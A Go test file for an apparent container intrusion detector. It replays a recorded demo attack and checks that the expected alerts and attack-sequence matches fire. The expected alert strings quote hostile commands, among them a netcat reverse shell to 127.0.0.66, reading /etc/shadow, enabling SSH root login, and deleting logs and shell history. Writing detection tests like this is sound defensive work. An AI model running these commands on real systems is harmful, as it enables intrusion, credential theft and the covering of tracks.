package rulestest

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/stoop-project/stoop/internal/demo"
	"github.com/stoop-project/stoop/internal/detect"
	"github.com/stoop-project/stoop/internal/event"
	"github.com/stoop-project/stoop/internal/recording"
	"github.com/stoop-project/stoop/internal/rules"
	"github.com/stoop-project/stoop/internal/rules/own"
	"github.com/stoop-project/stoop/internal/source"
)

// incident is what our rules make of the demo: an intrusion in a pod beside
// which another pod, and the first one's own jobs, go about their work.
var incident = []string{
	"Command shell through netcat in a container: nc.traditional -e /bin/bash 127.0.0.66 4444",
	"Standard input became a network connection in a container: nc.traditional -e /bin/bash 127.0.0.66 4444",
	"Shell on a network connection in a container: bash",
	"Password hashes read in a container: cat /etc/shadow",
	"Reconnaissance tool started in a container: nmap -n -Pn -sT -p 1-1024,3000-9999 127.0.0.1",
	"SSH configuration altered in a container: sed -i s/^PermitRootLogin no/PermitRootLogin yes/ /etc/ssh/sshd_config",
	"SSH configuration altered in a container: bash",
	"Package repository added or changed in a container: bash",
	"Hidden program executed in a container: updater 127.0.0.66 9001 6",
	"Logging data removed in a container: bash",
	"Logging data removed in a container: rm -f /var/log/shop/access.log /var/log/shop/jobs.log",
	"Logging data removed in a container: rm -f /var/log/shop/access.log /var/log/shop/jobs.log",
	"Shell history removed in a container: rm -f /root/.bash_history",
}

// chain are the sequences that the incident completes.
var chain = []string{
	"Intrusion by a shell over the network, and its traces removed",
	"Made executable, then run",
	"Many ports of one host tried",
	"New program calls the same address again and again",
	"Shell over the network, then a way back",
	"Shell over the network, then secrets read",
	"Somebody looks around in a container",
	"Web server started a shell that went out to the network",
}

// ours returns a detector with our rules.
func ours(t *testing.T) *detect.Detector {
	t.Helper()
	set, report := rules.Load(own.Files(), rules.Options{})
	if err := report.Err(); err != nil {
		t.Fatal(err)
	}
	d, err := detect.New(set, detect.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestTheDemosIncident(t *testing.T) {
	d := ours(t)
	set := d.Set()
	var alerts, sequences []string
	sink := source.SinkFunc(func(b *event.Batch) {
		for i := range b.Len() {
			rule, ok := text(b, i, "alert.rule")
			if !ok {
				continue
			}
			if container, _ := text(b, i, "container.name"); container != "web" {
				t.Errorf("%s: fired in %s, where nothing happened", rule, container)
			}
			if set.Rule(rule) == nil {
				sequences = append(sequences, rule)
				continue
			}
			line, _ := text(b, i, "proc.cmdline")
			alerts = append(alerts, rule+": "+line)
		}
	})
	src := recording.OpenReader("demo", bytes.NewReader(demo.Recording))
	if err := src.Run(t.Context(), source.Request{}, d.Sink(sink)); err != nil {
		t.Fatal(err)
	}
	d.End()
	if !slices.Equal(alerts, incident) {
		t.Errorf("the alerts are\n  %s\nwant\n  %s", strings.Join(alerts, "\n  "), strings.Join(incident, "\n  "))
	}
	slices.Sort(sequences)
	if !slices.Equal(sequences, chain) {
		t.Errorf("the sequences are\n  %s\nwant\n  %s", strings.Join(sequences, "\n  "), strings.Join(chain, "\n  "))
	}
}
